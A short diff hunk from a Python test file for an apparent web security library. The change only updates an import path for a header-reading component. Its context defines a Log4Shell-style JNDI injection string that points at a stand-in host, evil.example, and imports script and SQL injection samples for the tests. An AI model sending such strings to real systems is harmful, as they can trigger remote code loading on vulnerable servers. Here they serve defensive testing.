@@ -16,7 +16,7 @@ from hypothesis import given, strategies as st
 
 from gatewright.events import ListSink
 from gatewright.foundation import SecurityFoundation
-from gatewright.web.headers import MAX_REMEMBERED, MEMORY, HeaderReader
+from gatewright.web import MAX_REMEMBERED, MEMORY, HeaderReader
 from tests.web.echo import SCRIPT, SQL, code_of, echo
 
 JNDI = "${jndi:ldap://evil.example/a}"
